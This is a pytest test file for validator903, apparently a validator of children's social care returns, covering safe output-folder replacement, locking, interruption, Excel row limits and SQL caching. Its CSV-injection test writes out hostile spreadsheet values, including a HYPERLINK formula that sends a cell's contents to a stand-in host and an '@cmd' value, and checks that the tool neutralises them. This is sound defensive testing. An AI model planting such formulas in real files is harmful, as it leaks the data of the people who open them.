"""Output folders are replaced whole or not at all (validator903.outputs): a failed or interrupted
run leaves the earlier output as it was, two runs cannot write one folder at once, an input is
never overwritten, bad output paths are refused before the run; every CSV written is safe to open
in a spreadsheet; report.xlsx continues past Excel's row limit; `run --url` writes every format."""
import csv
import fcntl
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import openpyxl
import pytest

from validator903.cli import main
from validator903.load import load_all
from validator903.resources import sample_dir

SAMPLE = sample_dir()
ARGS = ["--year", "2025/26", "--la", "999"]


def cli(*args, **kw):
    return subprocess.run([sys.executable, "-m", "validator903", *map(str, args)], capture_output=True, text=True, **kw)


def digest(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with its hash."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def leftovers(parent: Path) -> list[str]:
    return [p.name for p in parent.iterdir() if ".v903-" in p.name or p.name.endswith(".v903.lock")]


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def earlier(tmp_path_factory):
    """A finished run with every format, to be kept intact by the runs that fail."""
    out = tmp_path_factory.mktemp("earlier") / "out"
    p = cli("validate", SAMPLE / "current", *ARGS, "--output", out, "--format", "csv,xlsx,html,json", "-q",
            "--by-social-worker", out / "sw")
    assert p.returncode == 0, p.stderr
    return out


def copy_of(earlier, tmp_path) -> Path:
    out = tmp_path / "out"
    shutil.copytree(earlier, out)
    return out


def test_failed_run_leaves_the_earlier_output_intact(earlier, tmp_path):
    out = copy_of(earlier, tmp_path)
    before = digest(out)
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n1,M,\"01/02/2010\n")
    p = cli("validate", bad, *ARGS, "--output", out, "--format", "csv,html", "-q")
    assert p.returncode == 2 and "unterminated quote" in p.stderr
    assert digest(out) == before and leftovers(tmp_path) == []
    again = tmp_path / "again"
    p = cli("validate", SAMPLE / "current", *ARGS, "--output", again, "--compare-with", out, "-q")
    assert p.returncode == 0, p.stderr
    assert {r["status"] for r in read_csv(again / "errors_compared.csv")} == {"open"}


@pytest.fixture(scope="module")
def big_return(tmp_path_factory):
    base = tmp_path_factory.mktemp("big")
    p = cli("synth", "--children", "40000", "--out", base / "current", "--previous", base / "previous")
    assert p.returncode == 0, p.stderr
    return base


@pytest.mark.parametrize("delay", [0.3, 0.9, 1.6, 2.4])
def test_ctrl_c_exits_130_and_keeps_the_earlier_output(earlier, big_return, tmp_path, delay):
    out = copy_of(earlier, tmp_path)
    before = digest(out)
    proc = subprocess.Popen([sys.executable, "-m", "validator903", "validate", big_return / "current", "--previous",
                             big_return / "previous", *ARGS, "--output", out, "--format", "csv,xlsx,html", "-q",
                             "--by-social-worker", out / "sw"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(delay)
    proc.send_signal(signal.SIGINT)
    stdout, stderr = proc.communicate(timeout=120)
    if proc.returncode == 0:  # finished before the signal: then the new output is whole
        assert (out / "report.html").is_file() and digest(out) != before
    else:
        assert proc.returncode == 130, stderr
        assert stderr.strip().splitlines()[-1] == "interrupted" and "Traceback" not in stderr
        assert digest(out) == before
    assert leftovers(tmp_path) == []


def test_a_second_run_into_a_locked_folder_exits_2(earlier, tmp_path):
    out = copy_of(earlier, tmp_path)
    before = digest(out)
    fd = os.open(tmp_path / ".out.v903.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        p = cli("validate", SAMPLE / "current", *ARGS, "--output", out, "-q")
    finally:
        os.close(fd)
    assert p.returncode == 2 and "another validator903 run is writing there" in p.stderr
    assert digest(out) == before


def test_two_runs_at_once_never_mix(big_return, tmp_path):
    """One run of a big return and one of the sample into one folder: whatever finishes, the folder
    is one run's output, its errors.csv matching its own validation.duckdb."""
    out = tmp_path / "out"
    a = subprocess.Popen([sys.executable, "-m", "validator903", "validate", big_return / "current", *ARGS,
                          "--output", out, "-q"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(0.2)
    b = cli("validate", SAMPLE / "current", *ARGS, "--output", out, "-q")
    a.communicate(timeout=120)
    assert 0 in (a.returncode, b.returncode)
    assert b.returncode in (0, 2) and a.returncode in (0, 2)
    if b.returncode == 2:
        assert "another validator903 run" in b.stderr
    db = duckdb.connect(str(out / "validation.duckdb"), read_only=True)
    assert db.execute("SELECT COUNT(*) FROM errors").fetchone()[0] == len(read_csv(out / "errors.csv"))
    assert db.execute("SELECT source FROM run_info").fetchone()[0] in (str(big_return / "current"), str(SAMPLE / "current"))
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("option", ["--output", "--by-social-worker"])
def test_an_input_folder_is_refused_as_output(tmp_path, option):
    src = tmp_path / "return"
    shutil.copytree(SAMPLE / "current", src)
    (src / "summary.csv").write_text("the council's own summary\n")
    (src / "index.csv").write_text("the council's own index\n")
    before = digest(src)
    extra = ["--output", tmp_path / "o"] if option == "--by-social-worker" else []
    p = cli("validate", src, *ARGS, *extra, option, src, "-q")
    assert p.returncode == 2 and "is where the input" in p.stderr and len(p.stderr.strip().splitlines()) == 1
    assert digest(src) == before


def test_an_input_file_named_like_a_report_is_refused(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    shutil.copy(SAMPLE / "current" / "header.csv", out / "errors.csv")  # a council file that happens to be named so
    p = cli("validate", out / "errors.csv", *ARGS, "--output", out, "-q")
    assert p.returncode == 2 and "is where the input" in p.stderr


def test_files_that_are_not_ours_are_kept(earlier, tmp_path):
    out = copy_of(earlier, tmp_path)
    (out / "notes.txt").write_text("mine\n")
    (out / "archive").mkdir()
    (out / "archive" / "old.csv").write_text("kept\n")
    (out / "sw" / "letter.docx").write_text("kept too\n")
    (out / "report.html").write_text("stale")
    p = cli("validate", SAMPLE / "current", *ARGS, "--output", out, "-q", "--by-social-worker", out / "sw")
    assert p.returncode == 0, p.stderr
    assert (out / "notes.txt").read_text() == "mine\n" and (out / "archive" / "old.csv").read_text() == "kept\n"
    assert (out / "sw" / "letter.docx").read_text() == "kept too\n"
    assert not (out / "report.html").exists(), "a report of a format not asked for this time is gone"
    assert oct(out.stat().st_mode & 0o777) == oct(0o777 & ~_umask())


def _umask() -> int:
    m = os.umask(0)
    os.umask(m)
    return m


@pytest.mark.parametrize("kind", ["file", "under a file", "not writable"])
@pytest.mark.parametrize("option", ["--output", "--by-social-worker"])
def test_bad_output_paths_are_refused_before_the_run(tmp_path, kind, option):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    if kind == "not writable" and not os.access("/sys", os.F_OK):
        pytest.skip("needs /sys (read-only even to root)")
    target = {"file": a_file, "under a file": a_file / "out", "not writable": Path("/sys/v903_out")}[kind]
    t0 = time.perf_counter()
    p = cli("validate", SAMPLE / "current", *ARGS, option, target)
    assert p.returncode == 2, p.stderr
    assert len(p.stderr.strip().splitlines()) == 1 and "Traceback" not in p.stderr
    assert p.stdout == "", "refused before the run: no summary printed"
    assert {"file": "is a file, not a folder", "under a file": "is a file, so no folder",
            "not writable": "cannot write in /sys"}[kind] in p.stderr
    assert a_file.read_text() == "x"


# -- CSV injection --------------------------------------------------------------------------
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_every_csv_written_is_safe_to_open(tmp_path, capsys, monkeypatch):
    src = tmp_path / "src"
    src.mkdir()
    evil = '=HYPERLINK("http://x.example/?"&A1,"open me")'
    (src / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
                                    f'"{evil.replace(chr(34), chr(34) * 2)}",Z,01/02/2010,+SUM(1),UN1,,\n'
                                    "@cmd,F,01/02/2010,-1,UN2,,\n", encoding="utf-8")
    (src / "sw_episodes.csv").write_text("CHILD,DOB,SW_ID,SW_DECOM,SW_DEC,SW_REASON\n"
                                         f'"{evil.replace(chr(34), chr(34) * 2)}",01/02/2010,=SW1,01/04/2025,,\n'
                                         "@cmd,01/02/2010,-SW2,01/04/2025,,\n", encoding="utf-8")
    first, out = tmp_path / "first", tmp_path / "out"
    for args in (["--output", first], ["--output", out, "--compare-with", first, "--by-social-worker", out / "sw"]):
        monkeypatch.setattr(sys, "argv", ["validator903", "validate", str(src), *ARGS, "-q", *map(str, args)])
        with pytest.raises(SystemExit) as e:
            main()
        assert e.value.code == 0, capsys.readouterr().err
    files = sorted(out.rglob("*.csv"))
    assert {p.name for p in files} >= {"errors.csv", "summary.csv", "errors_compared.csv", "fixed.csv", "index.csv"}
    cells = []
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        for row in rows[1:]:
            cells += [(path.name, c) for c in row]
            assert not any(c.startswith(FORMULAS) for c in row), (path.name, row)
    assert ("errors.csv", "'" + evil) in cells and ("errors.csv", "'@cmd") in cells
    assert any(name.startswith("sw_") and c == "'=SW1" for name, c in cells)
    assert ("index.csv", "'-SW2") in cells


# -- report.xlsx past Excel's rows ---------------------------------------------------------
def test_xlsx_continues_on_another_sheet_past_the_row_limit(tmp_path, capsys, monkeypatch):
    from validator903.reports import xlsx_report

    monkeypatch.setattr(xlsx_report, "MAX_ROWS", 11)  # 10 rows a sheet stand in for 1,048,575
    monkeypatch.setattr(sys, "argv", ["validator903", "validate", str(SAMPLE / "current"), *ARGS, "-q",
                                      "--output", str(tmp_path), "--format", "csv,xlsx"])
    with pytest.raises(SystemExit) as e:
        main()
    err = capsys.readouterr().err
    assert e.value.code == 0, err
    errors = read_csv(tmp_path / "errors.csv")
    assert len(errors) > 10
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    parts = [n for n in wb.sheetnames if n == "Errors" or n.startswith("Errors (")]
    assert parts == ["Errors"] + [f"Errors ({i})" for i in range(2, len(parts) + 1)] and len(parts) == -(-len(errors) // 10)
    rows = [r for n in parts for r in list(wb[n].iter_rows(values_only=True))[1:]]
    assert [(r[3], r[0]) for r in rows] == [(e["code"], e["child"]) for e in errors]
    assert "the Errors sheet has more rows than Excel's 11; it continues on 'Errors (2)'" in err
    header_parts = [n for n in wb.sheetnames if n == "header" or n.startswith("header (")]
    assert sum(wb[n].max_row - 1 for n in header_parts) == 200
    # the row link of an error in a header row past the first sheet points into the sheet holding it
    late = next(int(e["row"]) for e in errors if e["table"] == "header" and int(e["row"]) > 10)
    k, at = divmod(late - 1, 10)
    links = {c.value: c.hyperlink.location for n in parts for c in wb[n]["C"][1:]
             if c.hyperlink and wb[n].cell(c.row, 2).value == "header"}
    assert links[late] == f"'header ({k + 1})'!A{at + 2}"
    assert wb[f"header ({k + 1})"].cell(at + 2, 1).value == late


# -- run --url through the same pipeline ----------------------------------------------------
@pytest.fixture(scope="module")
def warehouse_db(tmp_path_factory):
    db = tmp_path_factory.mktemp("wh") / "council.duckdb"
    conn = duckdb.connect(str(db))
    load_all(conn, [SAMPLE / "current"], None)
    for (name,) in conn.execute("SELECT view_name FROM duckdb_views() WHERE schema_name = 'raw'").fetchall():
        conn.execute(f"CREATE TABLE main.{name} AS SELECT * FROM raw.{name}")
    conn.close()
    return db


def test_run_url_writes_every_format(warehouse_db, earlier, tmp_path):
    out = tmp_path / "out"
    p = cli("run", "--url", f"duckdb:///{warehouse_db}", *ARGS, "--output", out, "--format", "csv,xlsx,html,json",
            "--compare-with", earlier, "--by-social-worker", out / "sw", "-q")
    assert p.returncode == 0, p.stderr
    errors = read_csv(out / "errors.csv")
    assert errors and sorted((e["code"], e["child"]) for e in errors) == \
        sorted((e["code"], e["child"]) for e in read_csv(earlier / "errors.csv"))
    doc = json.loads((out / "errors.json").read_text())
    assert len(doc["errors"]) == len(errors) and doc["run"]["compared_with"] == str(earlier)
    assert {r["status"] for r in read_csv(out / "errors_compared.csv")} == {"open"}
    assert sum(int(r["errors"]) for r in read_csv(out / "sw" / "index.csv")) == len(errors)
    wb = openpyxl.load_workbook(out / "report.xlsx", read_only=True)
    assert wb["Errors"].max_row == len(errors) + 1 and "episodes" in wb.sheetnames  # the staged tables came back
    values = [r["values"] for r in read_csv(out / "errors_compared.csv")]
    assert all(values) and any("SEX: " in v for v in values)
    assert 'id="report-data"' in (out / "report.html").read_text()
    info = duckdb.connect(str(out / "validation.duckdb"), read_only=True).execute("SELECT * FROM run_info").fetchone()
    assert info[0] == "2025/26" and info[2].startswith("duckdb:///")


def test_compare_with_a_run_of_another_year_or_la_warns(earlier, tmp_path):
    p = cli("validate", SAMPLE / "current", "--year", "2024/25", "--la", "352", "--output", tmp_path / "o",
            "--compare-with", earlier, "-q")
    assert p.returncode == 0, p.stderr
    assert "that run was of 2025/26, this one is 2024/25" in p.stderr
    assert "that run was of LA 999, this one is LA 352" in p.stderr


def test_an_output_inside_the_input_folder_is_not_read_as_input(tmp_path):
    """Its temporary folder and lock sit beside it, in the input folder, while the input is read."""
    src = tmp_path / "return"
    shutil.copytree(SAMPLE / "current", src)
    for _ in range(2):
        p = cli("validate", src, *ARGS, "--output", src / "out", "-q")
        assert p.returncode == 0 and "warning" not in p.stderr, p.stderr
    assert sorted(p.name for p in src.iterdir() if not p.name.endswith(".csv")) == ["out"]


def test_invisible_characters_are_shown_in_report_values(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "header.csv").write_text("CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n1,M\u00a0,01/02/2010,WBRI\u200b,UN1,,\n",
                                    encoding="utf-8")
    first = tmp_path / "first"
    assert cli("validate", src, *ARGS, "--output", first, "-q").returncode == 0
    p = cli("validate", src, *ARGS, "--output", tmp_path / "out", "--compare-with", first, "-q", "--format", "csv,json")
    assert p.returncode == 0, p.stderr
    values = {r["code"]: r["values"] for r in read_csv(tmp_path / "out" / "errors_compared.csv")}
    assert values["101"] == "SEX: M[nbsp]" and values["103"] == "ETHNIC: WBRI[zwsp]"
    raw = {e["code"]: e["values"] for e in json.loads((tmp_path / "out" / "errors.json").read_text())["errors"]}
    assert raw["101"] == {"SEX": "M\u00a0"}, "errors.json keeps the text as it is"


def test_the_installed_layout_is_found_without_importlib_resources(tmp_path, monkeypatch):
    """A wheel puts rules_sql/ and dialects_data/ inside the package folder; they are found as
    plain folders there (issue 15: resources.files() gave a MultiplexedPath and no rules)."""
    from validator903 import resources

    pkg = tmp_path / "site-packages" / "validator903"
    (pkg / "rules_sql" / "derived").mkdir(parents=True)
    (pkg / "rules_sql" / "101.sql").write_text("select 1")
    (pkg / "dialects_data").mkdir()
    (pkg / "dialects_data" / "duckdb.yml").write_text("{}")
    monkeypatch.setattr(resources, "_PACKAGE", pkg)
    monkeypatch.setattr(resources, "_REPO", tmp_path / "site-packages")
    assert resources.rules_dir() == pkg / "rules_sql" and resources.dialects_dir() == pkg / "dialects_data"
    (pkg / "rules_sql" / "101.sql").unlink()
    with pytest.raises(RuntimeError, match="installed without its rules_sql"):
        resources.rules_dir()


def test_every_python_package_is_in_the_wheel():
    """pyproject lists the packages by hand (rules_sql/ and dialects/ are mapped into the package):
    a new subpackage missing from that list installs without its modules, and the wheel dies on
    import (validator903.fixes did)."""
    import tomllib

    root = Path(__file__).resolve().parent.parent
    listed = set(tomllib.loads((root / "pyproject.toml").read_text())["tool"]["setuptools"]["packages"])
    found = {".".join(p.parent.relative_to(root).parts) for p in (root / "validator903").rglob("*.py")}
    assert found - listed == set(), "add these to [tool.setuptools] packages in pyproject.toml"


def test_no_file_holds_an_unresolved_merge():
    """A merge's conflict markers once reached the README unnoticed: no text file of the
    repository (what a checkout or the wheel holds) may keep one."""
    root = Path(__file__).resolve().parent.parent
    folders = ["validator903", "rules_sql", "dialects", "tests", "benchmarks", ".ci"]
    files = [root / "README.md", root / "pyproject.toml"] + [p for f in folders for p in (root / f).rglob("*")
                                                          if p.is_file() and p.suffix in (".py", ".sql", ".yml", ".yaml", ".md", ".sh", ".toml", "")]
    marked = [f"{p.relative_to(root)}:{i}" for p in files for i, line in enumerate(p.read_text(errors="replace").splitlines(), 1)
              if line.startswith(("<<<<<<< ", ">>>>>>> ")) or line == "======="]
    assert marked == []


def test_a_failed_swap_puts_everything_back(earlier, tmp_path, monkeypatch, capsys):
    """If the last rename fails, the user's files and the earlier output are where they were."""
    from validator903 import outputs

    out = copy_of(earlier, tmp_path)
    (out / "notes.txt").write_text("mine\n")
    before = digest(out)
    real = os.replace

    def failing(src, dst):
        if Path(src).name.startswith(".out.v903-") and "old" not in Path(src).name and Path(dst) == out:
            raise OSError(13, "Permission denied")
        return real(src, dst)

    monkeypatch.setattr(outputs.os, "replace", failing)
    monkeypatch.setattr(sys, "argv", ["validator903", "validate", str(SAMPLE / "current"), *ARGS, "-q",
                                      "--output", str(out)])
    with pytest.raises(SystemExit) as e:
        main()
    assert e.value.code == 2
    assert "cannot replace it (Permission denied); the earlier output is as it was" in capsys.readouterr().err
    assert digest(out) == before and leftovers(tmp_path) == []


# Runs the CLI in this process, then says which of the SQL-making libraries it imported.
IMPORTS_PROBE = """
import runpy, sys
sys.argv = ["validator903", *sys.argv[1:]]
try:
    runpy.run_module("validator903", run_name="__main__")
except SystemExit as e:
    assert e.code in (0, None), e.code
print("sqlglot imported" if "sqlglot" in sys.modules else "sqlglot not imported")
"""


def test_a_second_run_of_unchanged_rules_takes_its_sql_from_the_cache(tmp_path):
    """The first run transpiles every rule and fix and saves them; the second (the same year, the
    same rules) neither renders nor transpiles anything, so sqlglot is never imported. The fixes'
    SQL was once computed after the cache had been saved, so every run imported sqlglot for it."""
    env = {**os.environ, "VALIDATOR903_CACHE": str(tmp_path / "cache")}
    args = ["validate", SAMPLE / "current", "--previous", SAMPLE / "previous", "--year", "2025/26", "-q"]
    said = []
    for i in range(2):
        p = subprocess.run([sys.executable, "-c", IMPORTS_PROBE, *map(str, args), "--output", tmp_path / f"out{i}"],
                           capture_output=True, text=True, env=env)
        assert p.returncode == 0, p.stderr
        said.append(p.stdout.strip().splitlines()[-1])
        assert (tmp_path / f"out{i}" / "errors.csv").stat().st_size > 0
    assert said == ["sqlglot imported", "sqlglot not imported"]
    assert (tmp_path / "out0" / "errors.csv").read_bytes() == (tmp_path / "out1" / "errors.csv").read_bytes()


def test_an_overgrown_sql_cache_keeps_only_what_the_run_used(tmp_path, monkeypatch):
    """Entries left behind (another version, an edited rule) are never read again: past
    MAX_ENTRIES the cache is rewritten with this process's entries, hits included; below it an
    unchanged cache is not rewritten."""
    import json

    from validator903 import dialects

    monkeypatch.setenv("VALIDATOR903_CACHE", str(tmp_path))
    path = dialects._cache_path()
    hit, sql = "SELECT 1 AS a", "SELECT 2 AS b"
    monkeypatch.setattr(dialects, "_dirty", False)  # the session's own cache state comes back after
    monkeypatch.setattr(dialects, "_cache", None)
    monkeypatch.setattr(dialects, "_used", set())
    dialects.transpile_cached(hit, "duckdb")
    dialects.save_cache()
    stale = {f"old{i}": "SELECT 0" for i in range(5)}
    path.write_text(json.dumps({**json.loads(path.read_text()), **stale}))
    monkeypatch.setattr(dialects, "_cache", None)
    monkeypatch.setattr(dialects, "_used", set())
    monkeypatch.setattr(dialects, "MAX_ENTRIES", 10)
    dialects.transpile_cached(hit, "duckdb")
    before = path.stat().st_mtime_ns
    dialects.save_cache()  # six entries, none new: left as it is
    assert path.stat().st_mtime_ns == before and len(json.loads(path.read_text())) == 6
    monkeypatch.setattr(dialects, "MAX_ENTRIES", 3)
    dialects.transpile_cached(sql, "duckdb")
    dialects.save_cache()
    kept = json.loads(path.read_text())
    assert len(kept) == 2 and not set(kept) & set(stale)
    assert dialects.transpile_cached(hit, "duckdb") == "SELECT 1 AS a"
